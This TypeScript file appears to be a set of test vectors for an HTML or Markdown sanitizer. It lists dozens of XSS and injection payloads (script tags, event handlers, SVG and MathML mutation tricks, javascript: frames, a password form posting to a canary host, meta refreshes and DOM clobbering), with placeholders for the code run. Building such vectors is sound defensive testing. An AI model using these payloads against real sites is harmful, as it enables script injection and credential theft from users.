import { CANARY, RUN, type Vectors } from './vector.ts'

export const scripts: Vectors = {
  'a script': `<script>${RUN}</script>`,
  'a script from elsewhere': `<script src="${CANARY}/a.js"></script>`,
  'a script in capitals with a slash': `<SCRIPT/x>${RUN}</SCRIPT>`,
  'a script in a script': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'a script over lines': `<script\n>\n${RUN}\n</script\n>`,
  'a module': `<script type="module">import "${CANARY}/m.js"</script>`,
  'a script that is not closed': `text <script>${RUN}//`,
  'a script after a comment that ends early': `<!--> <script>${RUN}</script> -->`,
  'a script in CDATA': `<![CDATA[<script>${RUN}</script>]]>`,
  'a script in a processing instruction': `<?php <script>${RUN}</script> ?>`,
  'a script as entities': `&lt;script&gt;${RUN}&lt;/script&gt;`,
  'a script after code that closes its element': `\`</code><script>${RUN}</script>\``,
  'a script in a template': `<template><script>${RUN}</script></template>`,
  'a script out of noscript': `<noscript><p title="</noscript><script>${RUN}</script>">`,
  'a template of Vue': `{{ constructor.constructor('${RUN}')() }} <p v-html="x" :onclick="${RUN}">`,
}

export const handlers: Vectors = {
  'an error handler of an image': `<img src=x onerror=${RUN}>`,
  'an error handler without spaces': `<img/src="x"/onerror=${RUN}>`,
  'a handler with a NUL in its tag': `<img\u0000 src=x onerror=${RUN}>`,
  'a handler in back quotes': `<img src=\`x\` onerror=\`${RUN}\`>`,
  'a load handler of the body': `<body onload=${RUN}>`,
  'a focus handler with autofocus': `<input autofocus onfocus=${RUN}>`,
  'a toggle handler of details': `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  'an error handler of a video': `<video><source onerror="${RUN}"></video>`,
  'an audio': `<audio src=x onerror=${RUN}>`,
  'a marquee': `<marquee onstart=${RUN}>x</marquee>`,
  'an animation': `<p style="animation: x" onanimationstart="${RUN}">x</p>`,
  'a hover': `<b onmouseover="${RUN}" onpointerenter="${RUN}">hover</b>`,
  'an element with a dash': `<x-y onclick=${RUN} tabindex=1>x</x-y>`,
  'popover events': `<button popovertarget=p>x</button><p id=p popover onbeforetoggle=${RUN}>x</p>`,
}

export const foreign: Vectors = {
  'an SVG with a load handler': `<svg onload=${RUN}></svg>`,
  'an SVG with a script': `<svg><script>${RUN}</script></svg>`,
  'an SVG with a link': `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  'an SVG that animates a link': `<svg><a><animate attributeName=href values=javascript:${RUN} /><text>x</text></a></svg>`,
  'an SVG that sets a handler': `<svg><set attributeName=onclick to=${RUN} /></svg>`,
  'an SVG with a page in it': `<svg><foreignObject><iframe src="javascript:${RUN}"/></foreignObject></svg>`,
  'an SVG that uses another': `<svg><use href="${CANARY}/a.svg#x" /></svg>`,
  'an SVG image': `<svg><image href="${CANARY}/a.png" /></svg>`,
  'MathML with a link': `<math href="javascript:${RUN}">x</math>`,
  'MathML with an action': `<math><maction actiontype="statusline#${CANARY}" xlink:href="javascript:${RUN}">x</maction></math>`,
  'MathML that becomes HTML': `<math><mtext><table><mglyph><style><img src onerror=${RUN}></style></mglyph></table></mtext></math>`,
  'an SVG title that becomes HTML': `<svg></p><title><style><img src onerror=${RUN}></style></title>`,
}

export const frames: Vectors = {
  'a frame': `<iframe src="${CANARY}/frame"></iframe>`,
  'a frame with a script': `<iframe src="javascript:parent.${RUN}"></iframe>`,
  'a frame with its document': `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  'an object': `<object data="${CANARY}/a.swf"></object>`,
  'an object with a page': `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  'an embed': `<embed src="javascript:${RUN}">`,
  'an applet and a portal': `<applet code="${CANARY}/a.class"></applet><portal src="${CANARY}/p">`,
  'a frameset': `<frameset><frame src="${CANARY}/frame"></frameset>`,
}

export const forms: Vectors = {
  'a form': `<form action="${CANARY}/take"><input name=password type=password></form>`,
  'a button with an action': `<button formaction="javascript:${RUN}" type=submit>x</button>`,
  'an input as an image': `<input type=image src="${CANARY}/a.png">`,
  'an isindex': `<isindex action="javascript:${RUN}" type=image>`,
  'a textarea that swallows the rest': `<textarea><img src=x onerror=${RUN}>`,
  'a select that swallows the rest': `<select><option><img src=x onerror=${RUN}></select>`,
  'a dialog over the page': `<dialog open><form method=dialog><button onclick=${RUN}>OK</button></form></dialog>`,
  'a task list with more than a box': `- [x" onclick="${RUN}] task\n- [ ] <input type=checkbox onclick=${RUN}>`,
}

export const pageWide: Vectors = {
  'a style': '<style>body { display: none }</style>',
  'a style that imports a stylesheet': `<style>@import "${CANARY}/a.css";</style>`,
  'a style that loads an image': `<p style="background: url(${CANARY}/a.png)">x</p>`,
  'a style that covers the page': '<div style="position:fixed;inset:0;z-index:9999">x</div>',
  'a stylesheet': `<link rel=stylesheet href="${CANARY}/a.css">`,
  'a prefetch': `<link rel=prefetch href="${CANARY}/a"><link rel=dns-prefetch href="//canary.test">`,
  'a meta refresh': `<meta http-equiv="refresh" content="0;url=${CANARY}/away">`,
  'a meta policy': `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  'a base': `<base href="${CANARY}/"> [relative](page)`,
  'an image': `<img src="${CANARY}/a.png" srcset="${CANARY}/b.png 2x">`,
  'a picture element': `<picture><source srcset="${CANARY}/a.webp"><img></picture>`,
  'a table with a background': `<table background="${CANARY}/a.png"><tr><td>x</td></tr></table>`,
  'a second body': `</div></body></html><html><body bgcolor=red background="${CANARY}/a.png">`,
  "end tags of the app's elements": '</p></div></article></main><h1>Sign in again</h1>',
}

export const clobbering: Vectors = {
  'names of the document': '<img name=cookie><form name=body></form><a id=defaultView></a>',
  'names of the window': '<a id=__pwned href=x></a><a id=config name=url></a>',
  'a heading named after an element of the app': '# app\n\n## app\n\n# constructor',
  'a heading that names itself': '# x {#app onclick=x}\n\n# y {.sidebar}',
  'a heading of property names': '# __proto__\n\n## hasOwnProperty\n\n### toString',
  'an element with an id': '<p id="app" name="app" class="dialog">x</p>',
}
